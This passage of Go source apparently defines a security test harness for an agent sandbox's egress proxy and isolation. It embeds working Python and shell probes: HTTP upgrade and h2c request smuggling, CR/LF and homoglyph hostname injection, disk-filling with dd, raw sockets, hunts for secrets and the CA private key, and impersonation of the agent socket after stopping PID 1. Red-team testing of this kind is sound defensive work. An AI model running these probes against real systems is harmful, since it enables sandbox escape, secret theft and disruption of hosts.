			Python: `up = "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
attempt("absolute", lambda: refused(get_abs("http://%s/%s" % (hp(FB, CP), PID), hp(FB, CP), up), "ws forbidden"))
def tun():
    s = allowed_tunnel()
    s.sendall(("GET /%s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (PID, hp(FB, CP), up)).encode())
    return refused(readall(s, 3), "ws in tunnel")
attempt("in tunnel", tun)`},
		{ID: "upgrade-smuggle", Name: "Requests for another host after a 101",
			Technique: "inside intercepted TLS to the allowed host: Upgrade: h2c (HTTP/2 streams could name any host) must not switch; after a WebSocket 101, an HTTP request with Host: <forbidden> sent on the upgraded connection must not be answered",
			Python: `def sess(extra, path):
    t = tls(allowed_tunnel(), AH)
    t.sendall(("GET /%s/%s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (PID, path, hp(AH, AP), extra)).encode())
    return t, readhead(t)
def h2c():
    t, head = sess("Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nConnection: Upgrade, HTTP2-Settings\r\n", "h2c")
    t.close()
    if code(head) == 101:
        return "BYPASS", "the connection switched to h2c: " + first(head)
    return "BLOCKED", "no switch to h2c: " + first(head)
def smuggle():
    t, head = sess("Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n", "ws")
    if code(head) != 101:
        t.close()
        return "BLOCKED", "the allowed host did not upgrade (%s): only a WebSocket 101 opens a connection the proxy stops reading as HTTP" % first(head)
    t.sendall(("GET /%s/after-101 HTTP/1.1\r\nHost: %s\r\n\r\n" % (PID, hp(FB, CP))).encode())
    r = readall(t, 3)
    if code(r) or b"smuggled" in r:
        return "BYPASS", "a request after the 101 reached the upstream and was answered: %r" % r[:80]
    return "BLOCKED", "the request after the 101 ended the connection unanswered (%d bytes)" % len(r)
attempt("h2c", h2c)
attempt("after a WebSocket 101", smuggle)`},
		{ID: "hostname-tricks", Name: "Malformed and look-alike host names",
			Technique: "very long names, NUL and CR/LF bytes, Cyrillic homoglyph of the allowed name, trailing dot, upper case, percent-encoding, userinfo and fragment tricks in absolute URIs",
			Python: `names = ["a" * 63 + "." + "b" * 63 + "." + "c" * 63 + "." + "d" * 50 + "." + AH, "x" * 300 + "." + AH,
         AH + "\x00." + FB, FB + "\x00" + AH, AH.replace("a", "\u0430", 1), FB + ".", FB.upper(), FB.replace("o", "%6f"),
         AH + "." + FB, FB + "\t", FB + "\r\nX: y"]
for n in names:
    attempt("CONNECT %r" % n[:40], connect_verdict, None, None, "%s:%d" % (n, CP))
for u, h in (("http://%s@%s/%s" % (hp(AH, AP), hp(FB, CP), PID), hp(FB, CP)),
             ("http://%s#@%s/" % (hp(FB, CP), hp(AH, AP)), hp(AH, AP)),
             ("http://%s\\@%s/" % (hp(FB, CP), hp(AH, AP)), hp(AH, AP)),
             ("http://%s%%00.%s/" % (FB, hp(AH, AP)), hp(AH, AP))):
    attempt("GET %r" % u[:50], lambda: refused(get_abs(u, h), u[:50]))`},
		{ID: "disk-fill", Name: "Filling the host's disk past the sandbox's reservation", Root: true, Alone: true,
			Technique: fmt.Sprintf("as root, write %d MiB of zeros into the root filesystem of the probe sandbox, whose disk_mb is %d (what its team's disk quota counts), then remove them", ProbeDiskMB+64, ProbeDiskMB),
			Shell: fmt.Sprintf(`f=/var/tmp/.space-probe-fill-$NONCE
dd if=/dev/zero of="$f" bs=1M count=%[1]d 2>/tmp/.space-probe-dd; rc=$?
n=$(stat -c %%s "$f" 2>/dev/null || echo 0); rm -f "$f"
if [ "$n" -gt %[2]d ]; then echo "BYPASS: wrote $n bytes into a sandbox whose disk is %[3]d MiB (dd exit $rc)"
elif [ "$rc" -ne 0 ] && grep -q "No space" /tmp/.space-probe-dd; then echo "BLOCKED: stopped at $n bytes: $(tail -n 1 /tmp/.space-probe-dd)"
else echo "ERROR: dd exit $rc after $n bytes: $(tail -n 1 /tmp/.space-probe-dd)"; fi
rm -f /tmp/.space-probe-dd`, ProbeDiskMB+64, ProbeDiskMB<<20, ProbeDiskMB)},
	}
}

const rawSocketScript = `def rs(proto):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, proto)
    s.settimeout(2)
    pkt = struct.pack(">BBHHH", 8, 0, 0xf7fd, 0, 1) + b"space"
    try:
        s.sendto(pkt, ("1.1.1.1", 0))
    except OSError as e:
        return "BLOCKED", "raw socket opened (sandbox-local), send failed: %s" % e
    while True:
        d, a = s.recvfrom(2048)
        if a[0] != "127.0.0.1":
            return "BYPASS", "raw packet answered by %s" % (a,)
attempt("SOCK_RAW ICMP", rs, socket.IPPROTO_ICMP)
attempt("SOCK_RAW TCP", rs, socket.IPPROTO_TCP)`

// auditNeverResolved is a bypass when the proxy resolved (or let through)
// any name carrying this run's nonce: those are attacker names.
func auditNeverResolved(e *Evidence) (string, string) {
	n := 0
	for _, r := range e.Audit {
		if !strings.Contains(r.Host, e.Nonce) || !strings.Contains(r.Host, e.Probe.ID) {
			continue
		}
		n++
		if r.IP != "" || r.Decision == "allow" {
			return Bypassed, fmt.Sprintf("proxy resolved attacker name %s to %s (%s)", r.Host, r.IP, r.Decision)
		}
	}
	if e.Probe.ID == "dns-proxy-name" && n == 0 {
		return Error, "no audit record for the attacker names: the refusal was not observed"
	}
	return "", fmt.Sprintf("%d audit records for attacker names, none resolved", n)
}

// checkSecretValue looks for the real value in what the script found.
func checkSecretValue(e *Evidence) (string, string) {
	if e.SecretValue != "" && strings.Contains(e.Stdout+e.Stderr, e.SecretValue) {
		return Bypassed, "the secret's real value was found inside the sandbox"
	}
	if !strings.Contains(e.Stdout, "placeholder:") {
		return Error, "the search did not complete"
	}
	return Blocked, "value not found in env, /proc or files (" + lastLine(e.Stdout) + ")"
}

// checkCAKey parses the CA certificate and every private key the script
// found, and is a bypass when one of the keys belongs to the CA.
func checkCAKey(e *Evidence) (string, string) {
	caPart, rest, ok := strings.Cut(e.Stdout, "=== KEYS")
	if !ok || !strings.Contains(rest, "=== END") {
		return Error, "the search did not complete"
	}
	blk, _ := pem.Decode([]byte(strings.TrimPrefix(caPart, "=== CA")))
	if blk == nil {
		return Error, "no sandbox CA certificate found at /usr/local/share/ca-certificates/space-egress.crt"
	}
	ca, err := x509.ParseCertificate(blk.Bytes)
	if err != nil {
		return Error, "sandbox CA certificate: " + err.Error()
	}
	keys, files := 0, 0
	data := []byte(rest)
	files = strings.Count(rest, "\n--- ")
	for {
		var b *pem.Block
		b, data = pem.Decode(data)
		if b == nil {
			break
		}
		keys++
		if pub := publicOf(b.Bytes); pub != nil && pub.Equal(ca.PublicKey) {
			return Bypassed, "the sandbox CA's private key is readable inside the sandbox"
		}
	}
	return Blocked, fmt.Sprintf("%d files with private keys, %d keys parsed, none is the CA's", files, keys)
}

func publicOf(der []byte) interface{ Equal(crypto.PublicKey) bool } {
	var k any
	if pk, err := x509.ParsePKCS8PrivateKey(der); err == nil {
		k = pk
	} else if pk, err := x509.ParseECPrivateKey(der); err == nil {
		k = pk
	} else if pk, err := x509.ParsePKCS1PrivateKey(der); err == nil {
		k = pk
	}
	if s, ok := k.(crypto.Signer); ok {
		if p, ok := s.Public().(interface{ Equal(crypto.PublicKey) bool }); ok {
			return p
		}
	}
	return nil
}

func lastLine(s string) string {
	s = strings.TrimSpace(s)
	if i := strings.LastIndexByte(s, '\n'); i >= 0 {
		return s[i+1:]
	}
	return s
}

// agentImpostorScript is the agent-impostor probe: the host must challenge
// a new connection on the agent socket and drop it on a wrong answer
// (issue 34: an impostor it talked to could exhaust the server's memory).
// The agent is stopped only for the attempt and always resumed.
const agentImpostorScript = `import signal
def secretfile():
    with open("/.space/run/agent.secret", "rb") as f:
        return "BYPASS", "root reads the agent's secret file (%d bytes) after the agent connected" % len(f.read(64))
attempt("agent.secret as root", secretfile)
def imp():
    os.kill(1, signal.SIGSTOP)
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect("/.space/run/agent.sock")
        s.settimeout(0.5)
        line = b""
        try:
            while len(line) < 84 and not line.endswith(b"\n"):
                c = s.recv(84 - len(line))
                if not c:
                    break
                line += c
        except socket.timeout:
            pass
        s.settimeout(2)
        if line.startswith(b"SPACE-AGENT-AUTH/"):
            s.sendall(b"SPACE-AGENT-AUTH/1 " + b"0" * 64 + b"\n")
            try:
                r = s.recv(64)
            except socket.timeout:
                return "ERROR", "challenged; after a wrong answer the host neither closed nor spoke"
            if r:
                return "BYPASS", "the host went on after a wrong answer: %r" % r[:40]
            return "BLOCKED", "challenged; a wrong answer closed the connection"
        if line:
            return "ERROR", "the host spoke first, not a challenge: %r" % line[:40]
        s.sendall(struct.pack(">BBHII", 0, 1, 1, 2, 0))
        r = readall(s, 2)
        if r:
            return "BYPASS", "no challenge: the host answered an impostor's session: %r" % r[:24]
        return "ERROR", "no challenge, and no answer to a session either: cannot tell"
    finally:
        os.kill(1, signal.SIGCONT)
attempt("impostor on agent.sock", imp)`
